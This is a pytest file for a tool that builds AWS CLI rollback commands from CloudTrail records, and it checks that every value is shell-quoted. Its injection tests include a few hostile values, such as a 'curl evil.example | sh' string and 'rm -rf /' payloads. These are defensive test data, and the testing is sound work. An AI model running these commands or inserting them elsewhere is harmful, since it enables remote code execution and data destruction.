"""The rollback of a recorded change (`verdict.change.rollback`, kit.diagnose.change_rollback) and a group's
`denied_now` (kit.postmortem.groups): commands built from CloudTrail's requestParameters as AWS records them,
every value shell-quoted (CloudTrail fields are attacker-controlled), and the group block's Roll back line."""

from __future__ import annotations

import json
import shlex
import subprocess

import pandas as pd
import pytest

from kit.diagnose.change_candidates import Candidate
from kit.diagnose.change_rollback import rollback
from kit.postmortem.groups import group_incidents
from kit.postmortem.views import group_block

KEY = "arn:aws:kms:me-central-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"


def _change(name: str, request: dict, region: str = "me-central-1") -> Candidate:
    return Candidate(event_id="e-1", event_name=name, event_time=pd.Timestamp("2026-11-29T10:00:00Z"),
                     principal_arn="arn:aws:iam::123456789012:user/admin", layer="x", region=region,
                     request=request, response={})


BEFORE = {"Version": "2012-10-17", "Statement": [{"Sid": "Keep's", "Effect": "Allow", "Action": "kms:*",
                                                  "Resource": "*", "Principal": {"AWS": "arn:aws:iam::123456789012:root"}}]}


@pytest.mark.parametrize("name, request_parameters, expected", [
    ("CreatePolicyVersion", {"policyArn": "arn:aws:iam::123456789012:policy/p", "setAsDefault": True},
     ["aws", "iam", "set-default-policy-version", "--policy-arn", "arn:aws:iam::123456789012:policy/p",
      "--version-id", "v3"]),
    ("AttachRolePolicy", {"roleName": "r", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"},
     ["aws", "iam", "detach-role-policy", "--role-name", "r", "--policy-arn", "arn:aws:iam::aws:policy/ReadOnlyAccess"]),
    ("DetachUserPolicy", {"userName": "u", "policyArn": "arn:aws:iam::123456789012:policy/kms"},
     ["aws", "iam", "attach-user-policy", "--user-name", "u", "--policy-arn", "arn:aws:iam::123456789012:policy/kms"]),
    ("DisableKey", {"keyId": KEY}, ["aws", "kms", "enable-key", "--region", "me-central-1", "--key-id", KEY]),
    ("ScheduleKeyDeletion", {"keyId": KEY},
     ["aws", "kms", "cancel-key-deletion", "--region", "me-central-1", "--key-id", KEY, "&&",
      "aws", "kms", "enable-key", "--region", "me-central-1", "--key-id", KEY]),
    ("AttachPolicy", {"policyId": "p-abcd1234", "targetId": "ou-ab12-cdef3456"},
     ["aws", "organizations", "detach-policy", "--policy-id", "p-abcd1234", "--target-id", "ou-ab12-cdef3456"]),
    ("PutKeyPolicy", {"keyId": KEY, "policyName": "default"},
     ["aws", "kms", "put-key-policy", "--region", "me-central-1", "--key-id", KEY, "--policy-name", "default",
      "--policy", BEFORE]),
    ("PutRolePolicy", {"roleName": "r", "policyName": "inline"},
     ["aws", "iam", "put-role-policy", "--role-name", "r", "--policy-name", "inline", "--policy-document", BEFORE]),
    ("UpdatePolicy", {"policyId": "p-abcd1234"},
     ["aws", "organizations", "update-policy", "--policy-id", "p-abcd1234", "--content", BEFORE]),
])
def test_the_rollback_reverses_the_call_from_its_own_parameters(name, request_parameters, expected):
    """The command, as a shell reads it (notes are comments), with a replaced document inline."""
    text = rollback(_change(name, request_parameters), before=BEFORE, previous_version="v3")
    words = shlex.split(text, comments=True)
    parsed = [json.loads(w) if w.startswith("{") else w for w in words]
    assert parsed == expected


EVERY_CHANGE = [
    ("PutKeyPolicy", {"keyId": KEY}), ("CreatePolicyVersion", {"policyArn": "arn:aws:iam::1:policy/p", "setAsDefault": True}),
    ("SetDefaultPolicyVersion", {"policyArn": "arn:aws:iam::1:policy/p", "versionId": "v2"}),
    ("AttachRolePolicy", {"roleName": "r", "policyArn": "arn:aws:iam::1:policy/p"}),
    ("DetachUserPolicy", {"userName": "u", "policyArn": "arn:aws:iam::1:policy/p"}),
    ("PutRolePolicy", {"roleName": "r", "policyName": "p"}), ("DeleteUserPolicy", {"userName": "u", "policyName": "p"}),
    ("PutRolePermissionsBoundary", {"roleName": "r", "permissionsBoundary": "arn:aws:iam::1:policy/b"}),
    ("DeleteUserPermissionsBoundary", {"userName": "u"}), ("DisableKey", {"keyId": KEY}),
    ("ScheduleKeyDeletion", {"keyId": KEY}), ("AttachPolicy", {"policyId": "p-1", "targetId": "r-ab12"}),
    ("DetachPolicy", {"policyId": "p-1", "targetId": "ou-ab12-cdef3456"}), ("UpdatePolicy", {"policyId": "p-1"}),
    ("MoveAccount", {"accountId": "123456789012", "sourceParentId": "ou-ab12-cdef3456",
                     "destinationParentId": "ou-ab12-abcd9876"}),
    ("MoveAccount", {"accountId": "1; rm -rf /", "sourceParentId": "x", "destinationParentId": "y"}),
    ("ModifyEbsDefaultKmsKeyId", {"kmsKeyId": KEY}), ("EnableEbsEncryptionByDefault", {}),
]


@pytest.mark.parametrize("name, request_parameters", EVERY_CHANGE)
@pytest.mark.parametrize("before", [None, BEFORE])
def test_every_command_pastes_into_a_shell(name, request_parameters, before):
    """A rollback that starts with `aws ` is a command bash parses as it is (`bash -n`, nothing runs): notes
    never break it; anything else is a sentence, never a half command."""
    text = rollback(_change(name, request_parameters), before=before, previous_version=None)
    if text.startswith("aws "):
        checked = subprocess.run(["bash", "-n"], input=text, text=True, capture_output=True, check=False)
        assert checked.returncode == 0, (text, checked.stderr)
    else:
        assert text == "" or text[0].isupper(), text


def test_the_move_back_swaps_the_parents_of_the_recorded_move():
    text = rollback(_change("MoveAccount", {"accountId": "123456789012", "sourceParentId": "ou-ab12-cdef3456",
                                            "destinationParentId": "ou-ab12-abcd9876"}), before=None)
    assert shlex.split(text, comments=True) == ["aws", "organizations", "move-account", "--account-id", "123456789012",
                                                "--source-parent-id", "ou-ab12-abcd9876",
                                                "--destination-parent-id", "ou-ab12-cdef3456"]


def test_without_the_earlier_state_the_rollback_says_what_to_restore():
    text = rollback(_change("PutKeyPolicy", {"keyId": KEY}), before=None)
    assert shlex.split(text, comments=True)[-1] == "file://restored.json" and "not in the evidence" in text
    version = rollback(_change("CreatePolicyVersion", {"policyArn": "arn:aws:iam::1:policy/p"}), before=None)
    assert shlex.split(version, comments=True) == ["aws", "iam", "list-policy-versions", "--policy-arn",
                                                   "arn:aws:iam::1:policy/p"]
    assert "set-default-policy-version" in version and "<that version>" in version
    assert rollback(_change("UpdatePolicy", {"policyId": "p-1"}), before=None).startswith("Put back the content")
    assert rollback(_change("CreateGrant", {"keyId": KEY}), before=BEFORE) == ""


def test_hostile_values_are_quoted_for_the_shell():
    hostile = "r; curl evil.example | sh"
    text = rollback(_change("AttachRolePolicy", {"roleName": hostile, "policyArn": "$(id)"}), before=None)
    assert shlex.split(text) == ["aws", "iam", "detach-role-policy", "--role-name", hostile, "--policy-arn", "$(id)"]
    document = {"Statement": [{"Sid": "'; rm -rf / #", "Effect": "Allow", "Action": "*", "Resource": "*"}]}
    put = rollback(_change("PutRolePolicy", {"roleName": "r", "policyName": "p"}), before=document)
    assert json.loads(shlex.split(put, comments=True)[-1]) == document


def _entry(name: str, denied_now: object, undone: dict | None = None) -> dict:
    change = {"event_id": "e-1", "event_name": "PutKeyPolicy", "event_time": "2026-11-29T10:00:00Z",
              "principal_arn": "arn:aws:iam::123456789012:user/terraform", "layer": "key-policy", "summary": "s",
              "rollback": "aws kms put-key-policy --key-id <b>k</b>", "denied_now": denied_now, "undone_by": undone}
    return {"name": name, "status": "ok", "cause": "kms-grant-denied", "denied_by": "key-policy", "instance_id": name,
            "change": change}


UNDONE = {"event_id": "e-2", "event_name": "PutKeyPolicy", "event_time": "2026-12-02T10:06:00Z",
          "principal_arn": "arn:aws:iam::123456789012:user/oncall", "layer": "key-policy"}


def test_a_group_needs_its_rollback_while_any_incident_is_still_denied():
    [group] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", True)])
    assert group["change"]["denied_now"] is True and group["change"]["undone_by"] is None
    html = group_block(group, 1)
    assert "Still needed" in html and "<code>aws kms put-key-policy --key-id &lt;b&gt;k&lt;/b&gt;</code>" in html
    [undone] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", False, UNDONE)])
    assert undone["change"]["denied_now"] is False and undone["change"]["undone_by"] == UNDONE
    html = group_block(undone, 1)
    assert "Not needed now" in html and 'title="arn:aws:iam::123456789012:user/oncall"' in html
    [mixed] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", False, dict(UNDONE, event_id="e-3"))])
    assert mixed["change"]["denied_now"] is False and mixed["change"]["undone_by"] is None  # not one change
    [unknown] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", None)])  # a summary from before
    assert unknown["change"]["denied_now"] is None and "needed" not in group_block(unknown, 1)


def _policy_version_evidence(listed: list[str]):
    """The seed's user with a managed policy whose versions `listed` remain (the newest the default, lacking
    kms:CreateGrant; v1 allowing it), v1 recorded as made the default, then v3 created as the default."""
    from tests.test_diagnose_units import ACCOUNT, authorization_details, evidence, lookup, record, seed_documents

    arn = f"arn:aws:iam::{ACCOUNT}:policy/ebs-keys"
    allows = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "kms:CreateGrant", "Resource": "*"}]}
    lacks = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "kms:DescribeKey", "Resource": "*"}]}
    details = authorization_details()
    details["UserDetailList"][0]["AttachedManagedPolicies"] = [{"PolicyName": "ebs-keys", "PolicyArn": arn}]
    details["Policies"] = [{"PolicyName": "ebs-keys", "Arn": arn, "DefaultVersionId": "v3", "AttachmentCount": 1,
                            "PolicyVersionList": [{"VersionId": v, "IsDefaultVersion": v == "v3",
                                                   "Document": allows if v == "v1" else lacks} for v in listed]}]
    iam = {"eventSource": "iam.amazonaws.com", "awsRegion": "us-east-1"}
    set_v1 = record("22222222-0000-0000-0000-000000000001", "SetDefaultPolicyVersion", "iam.amazonaws.com",
                    "2024-04-20T08:00:00Z", requestParameters={"policyArn": arn, "versionId": "v1"})
    made_v3 = record("22222222-0000-0000-0000-000000000002", "CreatePolicyVersion", "iam.amazonaws.com",
                     "2024-04-30T08:00:00Z", requestParameters={"policyArn": arn, "setAsDefault": True,
                                                                "policyDocument": json.dumps(lacks)},
                     responseElements={"policyVersion": {"versionId": "v3", "isDefaultVersion": True}})
    for event in (set_v1, made_v3):
        event.update(iam)
    return arn, allows, lacks, evidence(seed_documents(**{
        "iam.get-account-authorization-details.json": details,
        "cloudtrail.lookup-events.change-policy-ebs-keys.json": lookup([set_v1, made_v3])}))


def test_a_default_version_deleted_since_is_never_the_way_back():
    """v1 was the default before v3 but was deleted since (v2, a draft, remains older than v3): the state before
    the change is unknown, so nothing is named (and no rollback to v2 is offered)."""
    from kit.diagnose import diagnose

    *_, deleted = _policy_version_evidence(["v3", "v2"])
    assert diagnose(deleted).verdict.change is None


def test_a_new_default_version_rolls_back_to_the_version_that_was_the_default():
    """Three versions: v1 the default until CreatePolicyVersion made v3 the default, v2 a draft never made the
    default (recorded: SetDefaultPolicyVersion v1 after v2 was created). The state before is v1, not the
    highest older version: the change is named with v1's document and rolled back to v1."""
    from kit.diagnose import diagnose
    from tests.test_diagnose_units import USER

    arn, allows, lacks, kept = _policy_version_evidence(["v3", "v2", "v1"])
    change = diagnose(kept).verdict.change
    assert change is not None and (change["event_name"], change["principal_arn"]) == ("CreatePolicyVersion", USER)
    assert change["before"] == allows and change["after"] == lacks
    assert shlex.split(change["rollback"]) == ["aws", "iam", "set-default-policy-version", "--policy-arn", arn,
                                               "--version-id", "v1"]
